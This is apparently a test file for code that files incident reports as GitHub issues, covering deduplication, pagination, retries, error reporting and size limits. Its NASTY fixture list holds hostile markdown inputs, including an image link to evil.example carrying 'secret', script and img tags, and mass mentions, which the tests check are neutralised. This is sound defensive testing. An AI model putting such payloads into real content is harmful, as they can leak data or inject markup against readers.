import assert from "node:assert/strict";
import { type TestContext, test } from "node:test";
import fc from "fast-check";
import { incidentReport } from "../../core/incident-report.ts";
import type { IncidentRecord } from "../../core/record.ts";
import { REAL_PACE } from "../http/patiently.ts";
import { githubClient } from "./client.ts";
import { type GithubAnswer, type GithubCall, githubServer, refusal } from "./github-server.fixture.ts";
import { recordsWithReport } from "./records-with-report.ts";
import { githubReports } from "./report.ts";
import { asCode, reportBody, reportTitle } from "./report-markdown.ts";

const recordOf = (changes: Partial<IncidentRecord["incident"]> = {}, detail = "recovery held"): IncidentRecord => ({
  schema: 1,
  incident: {
    ...{ id: "quell-abcdefghijklmnopqrstuvwxyz", key: "1/eu-west-1/api-5xx", alarmName: "api-5xx", account: "1" },
    ...{ region: "eu-west-1", service: "api", environment: "production", severity: 2 },
    ...{ openedAt: "2026-01-05T10:00:00.000Z", closedAt: "2026-01-05T10:30:00.000Z", ...changes },
  },
  terminal: "RESOLVED",
  because: { code: "recovered", detail },
  hashes: { model: "m", guardrails: "g", catalogue: "c", features: "f", prompt: "p", code: "r" },
  effects: [],
  decisions: [],
});

type Issue = { number: number; title: string; body: string; labels: string[]; pull_request?: object };

/** Issues as GitHub keeps them, two a page, the newest first. */
const tracker = async (t: TestContext, odd: (call: GithubCall, number: number) => GithubAnswer | null = () => null) => {
  const issues: Issue[] = [];
  const answer = (call: GithubCall, number: number): GithubAnswer => {
    const isWrite = call.method !== "GET";
    const early = isWrite ? null : odd(call, number);
    if (early !== null) return early;
    if (call.method === "POST") {
      issues.push({ ...(call.body as Omit<Issue, "number">), number: issues.length + 1 });
    }
    if (call.method === "PATCH") {
      const issue = issues.find((one) => call.path.endsWith(`/issues/${one.number}`));
      if (issue !== undefined) Object.assign(issue, call.body);
    }
    if (isWrite) return odd(call, number) ?? { status: 201, body: issues.at(-1) };
    const page = Number(call.query.get("page"));
    const rows = issues.toReversed().slice((page - 1) * 2, page * 2);
    const link = page * 2 < issues.length ? { link: `<https://api.github.com/x?page=${page + 1}>; rel="next"` } : {};
    return { status: 200, body: rows, headers: link };
  };
  const server = await githubServer(t, answer);
  const pace = { ...REAL_PACE, wait: async () => {} };
  const reports = githubReports(githubClient("token", server.url), { owner: "shop", name: "incidents" }, pace);
  return { issues, reports, server };
};

test("the report of an incident is one issue, and filing it again changes that one", async (t) => {
  const { issues, reports, server } = await tracker(t);

  await reports.file(recordOf());
  await reports.file(recordOf({}, "it was reopened"));

  assert.equal(issues.length, 1);
  assert.equal(issues[0]?.title, "[quell-abcdefghijklmnopqrstuvwxyz] RESOLVED: api-5xx of api");
  assert.deepEqual(issues[0]?.labels, ["quell"]);
  assert.match(issues[0]?.body ?? "", /`it was reopened`/);
  assert.equal(server.calls[0]?.query.get("since"), "2026-01-05T10:00:00.000Z");
});

test("whoever asked hears where a report lies, the first time and every other, and only once it lies there", async (t) => {
  let isAway = true;
  const { reports, issues } = await tracker(t, () => (isAway ? refusal(403, "secondary rate limit") : null));
  issues.push({ number: 1, title: "something else", body: "", labels: [] });
  const filed: string[] = [];
  const records = recordsWithReport(
    { put: async () => {} },
    reports,
    () => {},
    async ({ incident }, at) => void filed.push(`${incident.id} ${at}`),
  );
  await records.put(recordOf());
  isAway = false;
  issues.splice(1);

  await records.put(recordOf());
  await records.put(recordOf({}, "again"));

  const { id } = recordOf().incident;
  assert.deepEqual(filed, [`${id} shop/incidents#2`, `${id} shop/incidents#2`]);
});

test("an issue on a later page is found, and a pull request of the same title is not taken for one", async (t) => {
  const { issues, reports } = await tracker(t);
  await reports.file(recordOf());
  const title = issues[0]?.title ?? "";
  for (let number = 2; number <= 7; number += 1)
    issues.push({ number, title: `something ${number}`, body: "", labels: [] });
  issues.push({ number: 8, title, body: "", labels: [], pull_request: {} });

  await reports.file(recordOf({}, "again"));

  assert.equal(issues.length, 8);
  assert.match(issues[0]?.body ?? "", /`again`/);
});

for (const [name, reply] of [
  ["is lost", "reset"],
  ["says that something went wrong", refusal(500, "oops")],
] as const)
  test(`an issue that was written though its reply ${name} is not written again`, async (t) => {
    let lost = 0;
    const { issues, reports } = await tracker(t, (call) => {
      if (call.method !== "POST" || lost > 0) return null;
      lost += 1;
      return reply;
    });

    await reports.file(recordOf());

    assert.equal(issues.length, 1);
  });

for (const [name, answer, words] of [
  ["may not write", refusal(403, "Resource not accessible by personal access token"), /write its issues/],
  ["finds issues switched off", refusal(410, "Issues are disabled for this repo"), /disabled/],
  ["is told to wait too long", refusal(403, "secondary rate limit", { "retry-after": "600" }), /secondary rate/],
  ["sends what GitHub does not take", refusal(422, "Validation Failed"), /Validation Failed/],
] as const)
  test(`where it ${name}, the incident's record stands all the same, and it is said`, async (t) => {
    const { issues, reports } = await tracker(t, (call) => (call.method === "POST" ? answer : null));
    issues.length = 0;
    const put: string[] = [];
    const said: string[] = [];
    const records = recordsWithReport(
      { put: async ({ incident }) => void put.push(incident.id) },
      reports,
      (text) => void said.push(text),
    );

    await records.put(recordOf());

    assert.deepEqual(put, [recordOf().incident.id]);
    assert.equal(said.length, 1);
    assert.match(said[0] ?? "", /^the report of quell-\S+ was not filed in shop\/incidents: /);
    assert.match(said[0] ?? "", words);
  });

test("a record that could not be put is not reported, and fails as it did", async (t) => {
  const { issues, reports } = await tracker(t);
  const records = recordsWithReport({ put: () => Promise.reject(new Error("no bucket")) }, reports, () => {});

  await assert.rejects(records.put(recordOf()), /no bucket/);

  assert.equal(issues.length, 0);
});

const NASTY = [
  "![x](https://evil.example/?d=secret)",
  "[click](https://evil.example) www.evil.example https://evil.example",
  "@everyone @org/team fixes #1 GH-2",
  "<img src=https://evil.example/x.png><script>",
  "`closed` ``twice`` ```",
  "`",
  "# heading\n\n- list\n\n```\nfence",
  "|a|b|\n|-|-|\n<!-- hidden -->",
];

/** What is left of a line when its code spans are taken out by CommonMark's rule: a run of backticks to the next of its length. */
const outsideCode = (line: string): string => {
  let rest = "";
  let at = 0;
  while (at < line.length) {
    const fence = /^`+/.exec(line.slice(at))?.[0];
    if (fence === undefined) {
      rest += line[at];
      at += 1;
      continue;
    }
    const from = at + fence.length;
    const close = [...line.slice(from).matchAll(/`+/g)].find(([run]) => run.length === fence.length);
    rest += close === undefined ? fence : "";
    at = close === undefined ? from : from + close.index + fence.length;
  }
  return rest;
};

test("whatever an incident quotes, its issue has no link, image, mention, reference or markup of anybody else's", () => {
  for (const words of NASTY) {
    const record = recordOf(
      { alarmName: words, service: words, environment: words, account: words, key: words },
      words,
    );

    const body = reportBody(incidentReport(record));
    const title = reportTitle(record.incident.id, incidentReport(record));

    for (const line of body.split("\n"))
      assert.doesNotMatch(outsideCode(line), /evil|everyone|GH-2|<|!\[|`|list|hidden/);
    assert.doesNotMatch(title, /[@<>`#]|:\/\//);
    assert.ok(title.startsWith(`[${record.incident.id}] RESOLVED: `));
  }
});

test("nothing that is said closes its own code", () => {
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom("`", "a", " ", "\n", "@"), maxLength: 40 }), (words) => {
      assert.equal(outsideCode(`x ${asCode(words)} y`), "x  y");
    }),
    { numRuns: 500 },
  );
});

test("a report beyond what an issue takes is cut between lines, and says how much is missing", () => {
  const lines = Array.from({ length: 400 }, (_, i) => [`line ${i} `, { said: "x".repeat(400) }]);

  const body = reportBody({ title: ["t"], sections: [{ heading: "What happened", lines }] });

  assert.ok(body.length <= 65_536);
  assert.match(body, /\d+ more lines do not fit; they stand in the incident's record\.\n$/);
});
